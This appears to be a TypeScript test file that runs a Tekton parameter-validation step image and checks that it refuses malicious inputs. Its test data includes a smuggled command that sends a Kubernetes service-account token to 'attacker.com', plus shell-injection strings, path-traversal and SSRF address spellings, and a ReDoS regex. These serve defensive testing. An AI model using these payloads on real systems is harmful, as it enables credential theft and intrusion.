// The real validate-params image, unpacked by umoci and run under chroot as
// uid 65532, with the args and env that Tekton would give it from the
// catalog Task YAML.
import t from 'tap';
import { chmod, mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { compileRuleSet } from '../../src/params/compile.ts';
import type { ParamRule } from '../../src/params/rules.ts';
import { validateParams } from '../../src/params/validate.ts';
import { builtCatalog } from '../harness/catalog-build.ts';
import { loadCatalogTask, renderStep, type CatalogStep } from '../harness/catalog-task.ts';
import { requireRoot } from '../harness/shared.ts';
import { runEntrypoint, unpackImage, type ImageConfig } from '../harness/step-image.ts';
import { allInert, SHELLS, shellVerdicts } from '../params/shell-check.ts';
import { generate, SHAPES } from '../params/shell-shapes.ts';

interface StepImage {
  rootfs: string;
  config: ImageConfig;
  step: CatalogStep;
  defaults: Record<string, string | string[]>;
}

/** Runs the step with a rule set and the "values" param, as Tekton would render them. */
async function runStep(image: StepImage, rules: Record<string, unknown>, values: string[], timeoutMs = 60_000) {
  const resultsDir = join(image.rootfs, 'tmp', 'results');
  await mkdir(resultsDir, { recursive: true });
  await chmod(resultsDir, 0o1777); // Tekton's results folder is writable by the step user
  const { args, env } = renderStep(image.step, {
    params: { ...image.defaults, rules: JSON.stringify(rules), values },
    context: { 'task.name': 'validate' },
  });
  return runEntrypoint(image.rootfs, image.config, { args, env: { ...env, TEKTON_RESULTS_DIR: '/tmp/results' }, timeoutMs });
}

/** The params the step named as failing, from its stderr list. */
const failedParams = (stderr: string) => new Set([...stderr.matchAll(/^ {2}- ([\w.-]+)(?:\[\d+\])? \(rule /gm)].map((m) => m[1]!));

let image: StepImage | undefined;

t.before(async () => {
  if (process.getuid?.() !== 0) return;
  const built = await builtCatalog();
  const { record, spec, defaults } = await loadCatalogTask(built, 'validate-params');
  const step = spec.steps[0]!;
  const unpacked = await unpackImage(built.layoutDir, 'step-validate-params', 'amd64');
  t.teardown(unpacked.cleanup);
  if (step.image !== record.images['validate-params']!.reference) throw new Error('the Task does not run the image the index records');
  image = { rootfs: unpacked.rootfs, config: unpacked.config, step, defaults };
});

t.test('validate-params runs from its real image and validates a real param set', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  t.equal(image!.config.User, '65532:65532');
  const rules = {
    'git-revision': { type: 'git-sha' },
    image: { type: 'image-reference', requireDigest: true },
    tag: { type: 'image-tag' },
    version: { type: 'semver' },
    namespace: { type: 'dns-label' },
    app: { type: 'k8s-name' },
    context: { type: 'relative-path' },
    repo: { type: 'https-url', allowedHosts: ['github.com'] },
    replicas: { type: 'integer', min: 1, max: 10 },
    'dry-run': { type: 'bool' },
  };
  const good = [
    `git-revision=${'a1b2c3d4'.repeat(5)}`,
    `image=registry.example.com/team/app@sha256:${'e'.repeat(64)}`,
    'tag=v1.2.3',
    'version=1.2.3-rc.1',
    'namespace=build',
    'app=my-app.v2',
    'context=services/api',
    'repo=https://github.com/example/app',
    'replicas=3',
    'dry-run=false',
  ];

  const ok = await runStep(image!, rules, good);
  t.equal(ok.code, 0, `valid set accepted: ${ok.stderr}`);
  t.equal(await readFile(join(image!.rootfs, 'tmp', 'results', 'VALIDATED'), 'utf8'), 'true');
  t.match(await readFile(join(image!.rootfs, 'tmp', 'results', 'PARAMS_DIGEST'), 'utf8'), /^sha256:[a-f0-9]{64}$/);

  const attack = '--build-arg FOO=bar; curl attacker.com -d $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)';
  const bad = await runStep(image!, rules, good.map((entry) => (entry.startsWith('tag=') ? `tag=${attack}` : entry.startsWith('replicas=') ? 'replicas=11' : entry)));
  t.equal(bad.code, 1, 'the attack is rejected with exit 1');
  t.match(bad.stderr, /tag \(rule image-tag\)/, 'names the param and its rule');
  t.match(bad.stderr, /replicas \(rule integer\)/, 'lists every failing param at once');
  t.notOk(bad.stderr.includes(attack) || bad.stdout.includes(attack), 'the raw attack string is never printed');
  t.match(bad.stderr, /metrics: tekton_param_validation_failures_total\{param="tag",task="validate"\} 1/);
});

t.test('the image gives the same verdict as the unit-tested code on the generated shell table, and what it passes is inert', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  let total = 0;
  for (const shape of SHAPES) {
    const generated = generate(shape);
    // One run per shape: one rule per generated value, so every verdict is reported at once.
    const rules = Object.fromEntries(generated.map((_, i) => [`v${i}`, shape.rule]));
    const values = generated.map(({ value }, i) => `v${i}=${value}`);
    const expected = validateParams(new Map(generated.map(({ value }, i) => [`v${i}`, value])), await compileRuleSet(rules as Record<string, ParamRule>));
    const out = await runStep(image!, rules, values);
    t.equal(out.code, expected.ok ? 0 : 1, `${shape.name}: exit code`);
    const refusedByImage = failedParams(out.stderr);
    t.same([...refusedByImage].sort(), expected.failures.map((f) => f.param).sort(), `${shape.name}: the image refuses exactly what the code refuses (${refusedByImage.size} of ${generated.length})`);
    const passedByImage = generated.filter((_, i) => !refusedByImage.has(`v${i}`)).map(({ value }) => value);
    for (const shell of SHELLS) {
      const verdicts = shellVerdicts(shell, passedByImage, shape.safety);
      t.same(passedByImage.filter((_, i) => verdicts[i] !== allInert(shape.safety)), [], `${shape.name}: ${passedByImage.length} passed values are inert in ${shell}`);
    }
    total += generated.length;
  }
  t.ok(total > 5000, `${total} generated values checked in the image`);
});

t.test('the image refuses the https-url attacks and passes real URLs', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  const base = 'https://github.com/org/repo.git';
  const attacks = ['`id`', '$(id)', '${IFS}', ';id', '|id', '&&id', '<x', '>x', "'", '"', '{a}', '}', '^', '%', '/../..', '/%2e%2e/x', '/%252e%252e/x', '/..%2f..'];
  const hosts = ['https://%67ithub.com/org/repo', 'https://user@github.com/org/repo', 'https://2130706433/', 'https://0x7f.1/', 'https://[::1]/'];
  const real = [base, 'https://gitlab.example.com/api/v4/projects/group%2Fproject/repository/archive.tar.gz', 'https://example.com:8443/~user/b%C3%BCcher#top'];
  const values = [...attacks.map((a) => base + a), ...hosts, ...real];
  const rules = Object.fromEntries(values.map((_, i) => [`u${i}`, { type: 'https-url' }]));
  const out = await runStep(image!, rules, values.map((v, i) => `u${i}=${v}`));
  t.equal(out.code, 1);
  const refused = failedParams(out.stderr);
  values.forEach((value, i) => t.equal(refused.has(`u${i}`), i < attacks.length + hosts.length, `${value}: ${i < attacks.length + hosts.length ? 'refused' : 'passes'}`));
});

t.test('publicHostsOnly in the image: every spelling of an internal address is refused', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  const internal = ['127.0.0.1', '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '169.254.169.254', '0xa9fea9fe', '10.0.0.1', '192.168.0.1', '[::1]', '[::ffff:7f00:1]',
    '[::ffff:a9fe:a9fe]', '[fd00:ec2::254]', '[fe80::1]', 'localhost', 'metadata.google.internal', 'kubernetes.default.svc', 'metadata'];
  const values = [...internal.map((host) => `https://${host}/x`), 'https://github.com/x'];
  const rules = Object.fromEntries(values.map((_, i) => [`u${i}`, { type: 'https-url', publicHostsOnly: true, allowIpv6: true }]));
  const out = await runStep(image!, rules, values.map((v, i) => `u${i}=${v}`));
  const refused = failedParams(out.stderr);
  values.forEach((value, i) => t.equal(refused.has(`u${i}`), i < internal.length, value));
  t.match(out.stderr, /the rule sets "publicHostsOnly"/);
});

t.test("the image's Node decides the Unicode classes as the tests expect (Unicode 17)", async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  const cases: [string, string, boolean][] = [
    ['Sidetic letters, new in Unicode 17', '\u{10940}\u{10941}', true],
    ['CJK, Arabic and emoji', '日本語 مرحبا 🚀', true],
    ['an RGI ZWJ family', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', true],
    ['a red heart with VS16', '\u2764\ufe0f', true],
    ['a keycap', '1\ufe0f\u20e3', true],
    ['ZWJ between emoji that form no RGI sequence', '\u{1f44d}\u200d\u{1f44d}', false],
    ['unassigned U+0378', 'a\u0378', false],
    ['unassigned U+40000', 'a\u{40000}', false],
    ['unassigned U+E0080', 'a\u{e0080}', false],
    ['noncharacter U+FDD0', 'a\ufdd0', false],
    ['noncharacter U+FFFE', 'a\ufffe', false],
    ['noncharacter U+10FFFF', 'a\u{10ffff}', false],
    ['braille blank', 'a\u2800b', false],
    ['object replacement character', 'a\ufffcb', false],
    ['ideographic half fill space', 'a\u303fb', false],
    ['musical null notehead', 'a\u{1d159}b', false],
    ['Khitan filler', 'a\u{16fe4}b', false],
    ['Hangul filler', 'a\u3164b', false],
  ];
  const rules = Object.fromEntries(cases.map((_, i) => [`t${i}`, { type: 'text', maxLength: 100 }]));
  const out = await runStep(image!, rules, cases.map(([, value], i) => `t${i}=${value}`));
  const refused = failedParams(out.stderr);
  cases.forEach(([what, , passes], i) => t.equal(refused.has(`t${i}`), !passes, `${what}: ${passes ? 'passes' : 'refused'}`));
  t.notMatch(out.stderr, /[\u0080-\u{10ffff}]/u, 'the log shows every non-ASCII character escaped');
});

t.test('the worst regex under the limits finishes in the image (the step timeout is the watchdog)', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  // 2^40 paths for V8's backtracking engine; linear for re2js.
  const rules = {
    chain: { type: 'regex', pattern: '(?:\\d|[0-9])'.repeat(40), maxLength: 41 },
    nested: { type: 'regex', pattern: '(a+)+b', maxLength: 65536 },
  };
  const out = await runStep(image!, rules, [`chain=${'1'.repeat(40)}x`, `nested=${'a'.repeat(65536)}`], 120_000);
  t.equal(out.code, 1, `both values are refused, not timed out: ${out.stderr.slice(0, 300)}`);
  t.match(out.stderr, /- chain \(rule regex\): does not match the rule's pattern/);
  t.match(out.stderr, /- nested \(rule regex\): does not match the rule's pattern/);
  const unsupported = await runStep(image!, { a: { type: 'regex', pattern: '(a)\\1', maxLength: 9 } }, ['a=aa']);
  t.equal(unsupported.code, 2);
  t.match(unsupported.stderr, /CONFIG_RULE_REGEX_UNSUPPORTED\]: rules\.a: the pattern "\(a\)\\\\1" uses a backreference/);
});

t.test('messages in the image name the Task params', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  const oops = await runStep(image!, { a: { type: 'bool' } }, ['oops']);
  t.equal(oops.code, 2);
  t.match(oops.stderr, /the "values" entry "oops" is not NAME=VALUE/);
  t.notMatch(oops.stderr, /--help/);
  const noMaxLength = await runStep(image!, { 'build-arg': { type: 'regex', pattern: '[A-Z]+' } }, []);
  t.match(noMaxLength.stderr, /rules\.build-arg\.maxLength: is required: a regex rule needs maxLength/);
});
